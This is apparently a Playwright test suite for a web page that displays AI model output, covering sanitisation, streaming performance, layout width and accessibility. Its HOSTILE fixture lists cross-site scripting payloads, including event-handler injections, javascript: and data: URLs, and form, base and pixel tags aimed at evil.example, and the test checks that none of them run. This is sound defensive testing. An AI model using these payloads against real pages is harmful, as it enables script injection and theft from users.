"""The page itself: safe with any model output, fast with long answers, and accessible."""

from __future__ import annotations

import re

import pytest
from playwright.async_api import Browser, expect

from tests.studio.browser import Studio
from tests.support.build import delta
from tests.support.scripted import Scripted, Step
from tests.support.serving import antiphon

pytestmark = pytest.mark.asyncio(loop_scope="package")

EVIL = "javascript:window.harm=1"
HOSTILE = f"""\
<script>window.harm = 1</script>
<img src="x" onerror="window.harm = 1">
<svg onload="window.harm = 1"><animate onbegin="window.harm=1" attributeName="x" dur="1s"></svg>
<iframe srcdoc="<script>parent.harm = 1</script>"></iframe>
<style>body {{ display: none }}</style>
<form action="https://evil.example"><input name="key"><button>Send</button></form>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example">
<a href="{EVIL}" id="turns">a link</a>

[script]({EVIL}) [data](data:text/html,<script>window.harm=1</script>) [vb](vbscript:x) [good](https://example.com/)

![pixel](https://evil.example/pixel.png) ![svg](data:image/svg+xml,<svg onload="window.harm=1"/>)

<details open ontoggle="window.harm=1">x</details>
<math><mtext><table><mglyph><style><img src=x onerror=window.harm=1></style></mglyph></table></mtext></math>

```" onmouseover="window.harm=1
x
```

| <img src=x onerror=window.harm=1> | `<b>` |
|---|---|
| \u202egnp.exe\u202c | {{{{constructor.constructor('window.harm=1')()}}}} |
"""


async def test_text_of_a_model_runs_nothing(studio: Studio, backend: Scripted) -> None:
    """Also in thoughts, in the names and arguments of calls, and when it is looked at again."""
    pieces: list[Step] = [delta(content=HOSTILE[start : start + 7]) for start in range(0, len(HOSTILE), 7)]
    name = 'f"><img src=x onerror=window.harm=1>'
    calls = [{"index": 0, "id": "c", "function": {"name": name, "arguments": f'{{"a": "{EVIL}<script>"}}'}}]
    script: list[Step] = [delta(reasoning_content=HOSTILE), *pieces, delta(tool_calls=calls)]
    backend.scripts = [script]
    page = studio.page
    await studio.say(HOSTILE)
    for tab in ("Events", "Request", "JSON", "Code"):
        await studio.inspect(tab)
    await studio.go("Responses")
    await page.locator(".log .rows a").first.click()
    await expect(page.locator("#response .prose")).to_contain_text("window.harm = 1")

    for link in await page.locator(".prose a").all():
        assert re.match("https://(example.com|evil.example)/", await link.get_attribute("href") or "")
        assert "noopener" in (await link.get_attribute("rel") or "")
    assert await page.locator(".prose :is(script, style, iframe, form, input, base, meta, svg, img, math)").count() == 0
    assert await page.evaluate("document.querySelectorAll('#turns').length") == 1
    assert await page.locator(".prose").first.inner_text() is not None
    assert "\u202e" not in await page.locator("body").inner_text()
    assert await page.evaluate("window.harm") is None


async def test_table_of_any_size_stays_in_its_place(studio: Studio, backend: Scripted) -> None:
    wide = f"|{'column|' * 60}\n|{'---|' * 60}\n" + f"|{'x' * 40}|\n" * 300
    backend.scripts = [[delta(content=wide)]]
    await studio.page.set_viewport_size({"width": 400, "height": 900})
    await studio.say("A table")
    await expect(studio.last.locator("tbody tr")).to_have_count(300)
    assert await studio.overflow() <= 0


async def test_content_security_policy_allows_the_pages_own_alone(studio: Studio) -> None:
    answer = await studio.page.request.get(f"{studio.url}/studio")
    policy = answer.headers["content-security-policy"]
    for directive in ("default-src 'none'", "script-src 'self'", "style-src 'self'", "base-uri 'none'"):
        assert directive in policy
    assert "frame-ancestors 'none'" in policy and "unsafe" not in policy
    text = await answer.text()
    assert not re.search(r"<script(?![^>]*src=)|\son\w+=|style=|https?://", text)


async def test_ten_thousand_deltas_stay_quick_and_small(studio: Studio, backend: Scripted) -> None:
    """Measured by the page's work, not by time: nodes, rows, and drawing per frame."""
    count = 10_000
    texts = [f"word{number} " + ("\n\n" if number % 50 == 49 else "") for number in range(count)]
    words: list[Step] = [[delta(content=text) for text in texts[at : at + 20]] for at in range(0, count, 20)]
    backend.scripts = [words]
    page = studio.page
    await studio.say("Go on")
    await studio.inspect("Events")
    await expect(page.locator(".event-count")).to_have_text("\u00d7 10,000")
    await page.get_by_label("Fold deltas").uncheck()
    await expect(page.locator(".event-name").nth(20)).to_have_text("output_text.delta")
    assert await page.locator(".event").count() < 100
    assert await page.locator(".prose p").count() == 200
    assert await page.evaluate("document.querySelectorAll('*').length") < 2000
    text = await studio.last.locator(".prose").inner_text()
    assert len(text.split()) == count and text.split()[-1] == "word9999"


async def test_long_block_is_not_rendered_anew_with_each_delta(browser: Browser) -> None:
    """A paragraph, a code block, a list: a delta's cost does not grow with the earlier text."""
    texts = ["word " * 20_000, "```python\n" + "x = 1\n" * 10_000 + "```", "- item\n" * 5_000]
    async with antiphon() as url, Studio.open(browser, url, path="/studio?modules") as studio:
        await expect(studio.page.get_by_role("button", name="Stream some Markdown")).to_be_visible()
        for text in texts:
            drawn = await studio.page.evaluate(DRAWN, text)
            assert drawn["changed"] < 1_000_000 + 10 * len(text)
            assert drawn["first"] >= 0.6 * len(text) and drawn["last"] >= 0.6 * len(text)


# A text grows by 100 characters at a time: the changed nodes, and how much is drawn.
DRAWN = """async (text) => {
    const { GrowingMarkdown } = await import("/studio/js/lib/markdown.js");
    const growing = new GrowingMarkdown();
    let changed = 0;
    const observer = new MutationObserver((records) => {
        for (const record of records) {
            for (const node of record.addedNodes) changed += node.textContent.length;
            if (record.type === "characterData") changed += 200;
        }
    });
    observer.observe(growing.node, { childList: true, subtree: true, characterData: true });
    for (let at = 100; at < text.length + 100; at += 100) {
        growing.update(text.slice(0, at));
        await null;
    }
    const first = growing.node.textContent.length;
    growing.update(text, true);
    while (!growing.ended) await new Promise((done) => requestAnimationFrame(done));
    return { changed, first, last: growing.node.textContent.trim().length };
}"""


@pytest.mark.parametrize("width", [390, 1400])
async def test_axe_finds_nothing(studio: Studio, width: int) -> None:
    """The whole page once; later only the changed parts."""
    page = studio.page
    await page.set_viewport_size({"width": width, "height": 900})
    await expect(page.get_by_role("button", name="Stream some Markdown")).to_be_visible()
    assert await studio.axe_in_both_themes() == []
    await studio.open_options()
    await page.get_by_label("Reasoning effort").select_option("low")
    assert await studio.axe_in_both_themes("main") == []
    await page.get_by_role("button", name="Close the options").click()
    await studio.suggest("Stream some Markdown") if width > 1000 else await studio.say("Show me some Markdown.")
    assert await studio.axe_in_both_themes("main") == []
    for tab in ("Events", "Request", "JSON", "Code"):
        if await page.get_by_role("tab", name=tab).is_visible():
            await page.get_by_role("tab", name=tab).click()
        else:
            await studio.inspect(tab)
        assert await studio.axe_in_both_themes("#inspector") == []
    await page.get_by_role("button", name="Close the inspector").click()
    await studio.open_menu()
    assert await studio.axe_in_both_themes("#side") == []
    await page.get_by_role("button", name="API key set", exact=True).click()
    assert await studio.axe_in_both_themes("#key-dialog") == []
    await page.keyboard.press("Escape")
    if width < 900:
        await page.get_by_role("button", name="Close the menu").click()
    await studio.go("Responses")
    await page.locator(".log .rows a").first.click()
    await expect(page.locator("#response .prose")).to_be_visible()
    assert await studio.axe_in_both_themes("main") == []
    await studio.go("About")
    await expect(page.get_by_role("heading", name="Clients")).to_be_visible()
    assert await studio.axe_in_both_themes("main") == []


async def test_page_at_any_width_is_no_wider_than_the_window(studio: Studio) -> None:
    async def wider() -> list[int]:
        """Return the widths at which the page is wider than the window; leave it at the last of them."""
        found = []
        for width in (2200, 1280, 1000, 800, 390, 360, 1600):
            await studio.page.set_viewport_size({"width": width, "height": 900})
            await studio.page.wait_for_function("(width) => innerWidth === width", arg=width)
            if await studio.overflow() > 0:
                found.append(width)
        return found

    await studio.say("Show me some Markdown.")
    await studio.say("x" * 500)
    assert await wider() == []
    await studio.inspect("Request")
    await expect(studio.page.get_by_role("table", name="Client request and backend request")).to_be_visible()
    assert await wider() == []
    for view, shown in (("Responses", ".log .rows a"), ("About", "#about-body h2")):
        await studio.go(view)
        await expect(studio.page.locator(shown).first).to_be_visible()
        assert await wider() == []


@pytest.mark.parametrize("width", [360, 800])
async def test_page_that_opens_in_a_narrow_window_is_no_wider(studio: Studio, width: int) -> None:
    await studio.page.set_viewport_size({"width": width, "height": 900})
    await studio.page.reload()
    await studio.say("Show me some Markdown.")
    assert await studio.overflow() <= 0
